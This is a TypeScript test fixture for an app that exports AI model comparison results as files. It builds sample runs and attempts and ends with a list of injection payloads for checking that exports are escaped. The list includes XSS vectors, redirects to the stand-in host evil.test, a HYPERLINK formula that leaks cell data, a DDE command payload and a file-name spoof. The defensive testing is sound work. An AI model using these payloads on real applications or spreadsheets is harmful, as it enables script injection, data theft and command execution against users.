import type { ComparisonExport } from "#electron/exports/comparison-export.ts";
import { failureOf } from "#shared/failure.ts";
import type { Attempt, Comparison, Run } from "#shared/run.ts";
import { noCost } from "#shared/usage.ts";

/** Comparisons for tests of what leaves the program as a file. */

export const attempt: Attempt = {
  id: "a1",
  linkIndex: 0,
  providerId: "openai",
  modelId: "gpt-5",
  kind: "first",
  startMs: 10,
  waitedMs: 0,
  price: null,
  status: "answered",
  endMs: 900,
  connectedMs: 20,
  headersMs: 200,
  httpStatus: 200,
  firstContentMs: 300,
  firstAnswerMs: 350,
  lastContentMs: 890,
  finish: "stop",
  nativeFinish: null,
  failure: null,
  usage: {
    inputTokens: 8,
    cacheReadTokens: 0,
    cacheWrite5mTokens: 0,
    cacheWrite1hTokens: 0,
    outputTokens: 20,
    reasoningTokens: 0,
    source: "reported",
  },
  cost: { nanoUsd: 213_000, source: "computed" },
  modelServed: null,
  upstreamProvider: null,
  generationId: null,
  malformedEvents: 0,
  droppedText: "",
};

export const lostAttempt: Attempt = {
  ...attempt,
  id: "a0",
  status: "failed",
  endMs: 9,
  firstContentMs: null,
  firstAnswerMs: null,
  usage: null,
  cost: noCost,
  failure: failureOf("RATE_LIMIT", "Rate limit reached.", { status: 429 }),
};

export const run: Run = {
  id: "r1",
  comparisonId: "x1",
  columnId: "c1",
  target: { kind: "chain", chainId: "smart" },
  title: "smart",
  isDemo: false,
  status: "done",
  startedAtMs: 1_795_000_000_000,
  endMs: 900,
  links: [],
  text: "An answer.",
  reasoning: "",
  attempts: [lostAttempt, attempt],
  waiting: null,
  answeredBy: "a1",
  failure: null,
};

export const comparison: Comparison = {
  id: "x1",
  conversationId: "v1",
  sessionId: "s1",
  prompt: "Hello",
  startedAtMs: 1_795_000_000_000,
  isDemo: false,
};

export function exportOf(parts: Partial<ComparisonExport> = {}): ComparisonExport {
  return {
    comparison,
    runs: [run],
    title: null,
    tags: [],
    isPinned: false,
    providerName: (providerId) => (providerId === "openai" ? "OpenAI" : providerId),
    version: "0.1.0",
    exportedAtMs: 1_795_000_100_000,
    ...parts,
  };
}

/** Asked twice for each of two rows; the second run of the first round failed, and one was stopped. */
export function repeatedExport(parts: Partial<ComparisonExport> = {}): ComparisonExport {
  const columns = [
    { columnId: "c1", target: { kind: "chain", chainId: "smart" } },
    { columnId: "c2", target: { kind: "model", providerId: "openai", modelId: "gpt-5" } },
  ] as const;
  const rows = [{ city: "Rome", style: "verse" }, { city: "=Łódź" }];
  const prompt = "Tell of {{city}}";
  const warm = { ...attempt, connectedMs: 10, usage: attempt.usage && { ...attempt.usage, cacheReadTokens: 4 } };
  const failure = failureOf("SERVER", "Overloaded.", { status: 503 });
  const other = { ...run, columnId: "c2", title: "GPT-5" };
  const nothing = { answeredBy: null, text: "", failure };
  const runs: readonly Run[] = [
    { ...run, id: "r1", round: 0 },
    { ...other, ...nothing, id: "r2", round: 0, status: "failed", attempts: [{ ...lostAttempt, failure }] },
    { ...run, id: "r3", round: 1, attempts: [warm] },
    { ...run, ...nothing, id: "r4", round: 2, status: "stopped", attempts: [], failure: null, endMs: 40 },
    { ...run, id: "r5", round: 2, endMs: 700 },
  ];
  const repeat = { purpose: "repeat", times: 2, rows, seed: 77, perProvider: 1, columns } as const;
  return exportOf({ comparison: { ...comparison, prompt, system: "In {{style}}", repeat }, runs, ...parts });
}

/** Everything of it that a stranger may have written says `text`. */
export function exportSaying(text: string): ComparisonExport {
  const said: Run = {
    ...run,
    title: text,
    text,
    reasoning: text,
    attempts: [
      { ...lostAttempt, droppedText: text, failure: failureOf("SERVER", text) },
      { ...attempt, modelServed: text, upstreamProvider: text, nativeFinish: text, modelId: text },
    ],
  };
  return exportOf({
    comparison: { ...comparison, prompt: text, system: text },
    runs: [said],
    title: text,
    tags: [text],
    providerName: () => text,
  });
}

/** The same of a repeated one. */
export function repeatedSaying(text: string): ComparisonExport {
  const exported = repeatedExport();
  const { repeat } = exported.comparison;
  const rows = repeat?.rows?.map((row) => ({ ...row, city: text }));
  return {
    ...exportSaying(text),
    comparison: { ...exportSaying(text).comparison, ...(repeat && { repeat: { ...repeat, ...(rows && { rows }) } }) },
    runs: exported.runs.map((one) => ({
      ...one,
      title: text,
      text,
      failure: one.failure && failureOf("SERVER", text),
    })),
  };
}

/** What answers may hold that would be markup, a formula or a way out in some program that reads a file of ours. */
export const payloads: readonly string[] = [
  "<script>window.__pwn=1</script>",
  "<img src=x onerror=window.__pwn=1>",
  "</pre><script>window.__pwn=1</script>",
  "</title></head><body onload=window.__pwn=1>",
  "</style><script>window.__pwn=1</script>",
  "<svg/onload=window.__pwn=1>",
  '<svg><style><!--</style><a title="--><img src onerror=window.__pwn=1>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwn=1>",
  "<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>",
  '<a href="javascript:window.__pwn=1">x</a>',
  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  "<link rel=prefetch href=https://evil.test>",
  "<base href=https://evil.test>",
  "<form action=https://evil.test><button>x</form>",
  "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
  "<template><script>window.__pwn=1</script></template>",
  '" onmouseover="window.__pwn=1',
  "' onfocus='window.__pwn=1' autofocus='",
  "&lt;script&gt;window.__pwn=1&lt;/script&gt;",
  "&#60;script&#62;",
  "<!-- --!> <script>window.__pwn=1</script>",
  "<![CDATA[<script>window.__pwn=1</script>]]>",
  "]]><script>",
  ["$", "{window.__pwn=1}"].join(""),
  "{{constructor.constructor('window.__pwn=1')()}}",
  "![x](https://evil.test/a.png)",
  "[x](javascript:window.__pwn=1)",
  "[x]: https://evil.test\n[x]",
  "<https://evil.test>",
  "https://evil.test and www.evil.test and a@evil.test",
  "```\n</code><script>window.__pwn=1</script>\n```",
  "````\n```\n# not a heading\n````",
  "~~~\n<b>\n~~~",
  "| a | b |\n|---|---|\n| <b> | `x` |",
  "# Heading\n\n---\n\n> quote\n\n1. list",
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '=HYPERLINK("https://evil.test?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "\uff1d1+1",
  "'=1+1",
  "a;=1+1",
  'a",=1+1',
  "a\n=1+1",
  'quotes " and , commas \r\n and lines',
  " leading and trailing ",
  "\u202egnp.exe\u202c",
  "\u0000\u0001\u001b[31m",
  "\ud83d\ude00 \u{10ffff}",
  "",
];
